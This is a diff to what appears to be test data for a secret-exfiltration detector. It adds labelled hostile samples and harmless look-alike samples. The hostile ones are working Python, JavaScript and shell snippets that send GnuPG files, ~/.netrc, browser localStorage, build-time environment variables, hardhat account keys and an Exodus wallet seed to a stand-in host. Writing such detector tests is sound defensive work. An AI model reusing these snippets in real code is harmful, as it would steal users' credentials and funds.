@@ -29,6 +29,31 @@ _PACKED = (
     "tar.c({ sync: true, file: '/tmp/x.tgz' }, [FOLDER]);\n"
     "fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync('/tmp/x.tgz') });\n"
 )
+_WALKED = (
+    "import pathlib, requests\nclass Files:\n    ROOT = pathlib.Path.home() / '.gnupg'\n    def __iter__(self):\n"
+    "        for one in self.ROOT.rglob('*'):\n            yield one.name, one.read_bytes()\n"
+    "for name, data in Files():\n    requests.post('https://a.invalid', data=VALUE)\n"
+)
+_STORED = (
+    "import os, psycopg2\ncursor = psycopg2.connect('postgres://a.invalid/b').cursor()\n"
+    "cursor.execute('insert into t values (%s)', (VALUE,))\n"
+)
+_BROWSED = (
+    "const keys = Object.keys(localStorage);\n"
+    "const all = keys.map((key) => [key, localStorage.getItem(KEY)]);\n"
+    "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) });\n"
+)
+_DENO = "const env = VALUE;\nawait fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(env) });\n"
+_ELECTRON = (
+    "const { net } = require('electron'), fs = require('fs'), os = require('os');\n"
+    "const call = net.request({ method: 'POST', url: 'https://a.invalid' });\n"
+    "call.write(fs.readFileSync(FILE));\ncall.end();\n"
+)
+_VITE = (
+    "import { defineConfig, loadEnv } from 'vite';\nexport default defineConfig(({ mode }) => {\n"
+    "  const env = loadEnv(mode, process.cwd(), '');\n"
+    "  fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(VALUE) });\n  return {};\n});\n"
+)
 _GLOBBED = (
     "const fg = require('fast-glob'), fs = require('fs'), os = require('os');\n"
     "const files = fg.sync('PATTERN', { cwd: os.homedir(), absolute: true });\n"
@@ -55,11 +80,29 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "for f in \"${files[@]}\"; do up \"$f\"; done\n",
             2,
         ),
+        "through a pipe to another machine": _sh("tar cz -C ~ .ssh .gnupg | ssh me@a.invalid 'cat > x.tgz'\n", 1),
+        "by a path of Windows in a line": js(
+            "const { execSync } = require('child_process'), data = process.env.APPDATA;\n"
+            "execSync('curl -F f=@' + data + '\\\\Exodus\\\\exodus.wallet\\\\seed.seco https://a.invalid');\n",
+        ),
         "in a text that stands below the command": _sh("mail -s a me@a.invalid <<EOF\n$(cat ~/.npmrc)\nEOF\n", 1),
         "the secret of an exchange, off its own client": py(
             "import ccxt, requests\nexchange = ccxt.binance({'secret': open('a').read()})\n"
             "requests.post('https://a.invalid', json={'build': exchange.secret})\n",
             line=3,
+        ),
+        "what an object gives that is walked": py(_WALKED.replace("VALUE", "data"), line=8),
+        "a file of the user's, into somebody's table": py(
+            _STORED.replace("VALUE", "open(os.path.expanduser('~/.netrc')).read()"), line=3
+        ),
+        "all that a page keeps, by each name": js(_BROWSED.replace("KEY", "key"), line=3),
+        "the environment by another runtime": js(_DENO.replace("VALUE", "Deno.env.toObject()")),
+        "by a request that is written to": js(_ELECTRON.replace("FILE", "os.homedir() + '/.netrc'"), line=3),
+        "the settings of a mode, while it is built": js(_VITE.replace("VALUE", "env"), line=4),
+        "what a toolchain of contracts deploys with": js(
+            "const hre = require('hardhat');\n"
+            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(hre.config.networks.a.accounts) });\n",
+            "review",
         ),
         "a key to a node of a chain": js(
             "const { JsonRpcProvider, Wallet } = require('ethers');\n"
@@ -90,10 +133,27 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "files=(a.csv b.csv)\nup() { curl -sF \"f=@$1\" https://a.invalid; }\n"
             "for f in \"${files[@]}\"; do up \"$f\"; done\nls ~/.ssh\n"
         ),
+        "the project through a pipe to another machine": _made(
+            "tar cz src docs | ssh -i ~/.ssh/id_rsa me@a.invalid 'cat > x.tgz'\n"
+        ),
+        "another path of Windows in a line": {
+            "app.js": "const { execSync } = require('child_process'), data = process.env.APPDATA;\n"
+            "execSync('curl -F f=@' + data + '\\\\Own\\\\report.json https://a.invalid');\n",
+        },
         "the time in a text that stands below the command": _made("mail -s a me@a.invalid <<EOF\n$(date)\nEOF\n"),
         "the name of an exchange, off its own client": {
             "app.py": "import ccxt, requests\nexchange = ccxt.binance({'secret': open('a').read()})\n"
             "requests.post('https://a.invalid', json={'build': exchange.id})\n"
+        },
+        "the name of what an object gives that is walked": {"app.py": _WALKED.replace("VALUE", "'a'")},
+        "a key of its own, into its own table": {"app.py": _STORED.replace("VALUE", "os.environ['PRIVATE_KEY']")},
+        "one thing that a page keeps, for each name": {"app.js": _BROWSED.replace("KEY", "'theme'")},
+        "a variable by another runtime": {"app.js": _DENO.replace("VALUE", "Deno.env.get('ZONE')")},
+        "a report by a request that is written to": {"app.js": _ELECTRON.replace("FILE", "'report.json'")},
+        "one setting of a mode, while it is built": {"app.js": _VITE.replace("VALUE", "env.ZONE")},
+        "how a toolchain of contracts is called": {
+            "app.js": "const hre = require('hardhat');\n"
+            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(hre.config.networks.a.url) });\n",
         },
         "an address to a node of a chain": {
             "app.js": "const { JsonRpcProvider, Wallet } = require('ethers');\n"
